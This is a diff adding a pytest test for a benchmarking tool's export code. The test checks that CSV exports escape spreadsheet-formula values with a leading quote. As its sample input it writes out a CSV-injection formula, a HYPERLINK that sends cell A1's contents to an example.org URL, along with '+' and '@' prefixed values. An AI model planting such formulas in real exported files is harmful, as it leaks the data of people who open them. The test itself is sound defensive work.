@@ -2,14 +2,17 @@
 
 from __future__ import annotations
 
+import csv
 import shutil
 import sqlite3
 from contextlib import closing
 from pathlib import Path
 
 import pytest
+from support.pages import add_run
 
 from orthobench.errors import UsageError
+from orthobench.store import MetricRow, open_store
 from orthobench.store.overwrite import KINDS, refuse_file, refuse_other_kinds
 
 OWN = {
@@ -113,3 +116,19 @@ def test_another_programs_database_is_refused_and_unchanged(orthobench, tmp_path
     assert "other.db is a database of another program (it has a table bookmarks) and is left as it is" in refused.err
     assert other.read_bytes() == before
     assert not list(tmp_path.glob("other.db-*"))
+
+
+def test_no_table_has_a_formula_for_a_spreadsheet(tmp_path, orthobench):
+    formula = '=HYPERLINK("http://example.org/?x="&A1,"click")'
+    with open_store(str(tmp_path / "r.db"), create=True) as store:
+        key = add_run(store, "lstm", message=formula)
+        store.tag([key], ["+tag"])
+        run = store.find(key)
+        store.log(run.id, [MetricRow("test", "@metric", 1, 4, -0.5)], [], {})
+    assert orthobench("db", "export", "out", "--db", "r.db", "--format", "csv", "--vectors").code == 0
+    assert orthobench("report", "--db", "r.db", "--format", "csv", "-o", "report.csv").code == 0
+    files = [*(tmp_path / "out").iterdir(), tmp_path / "report.csv"]
+    cells = [cell for file in files for row in csv.reader(file.read_text("utf-8").splitlines()) for cell in row]
+    assert f"'{formula}" in cells
+    assert {"'+tag", "'@metric", "-0.5"} <= set(cells)
+    assert not [cell for cell in cells if cell[:1] in "=+@\t\r" and cell]
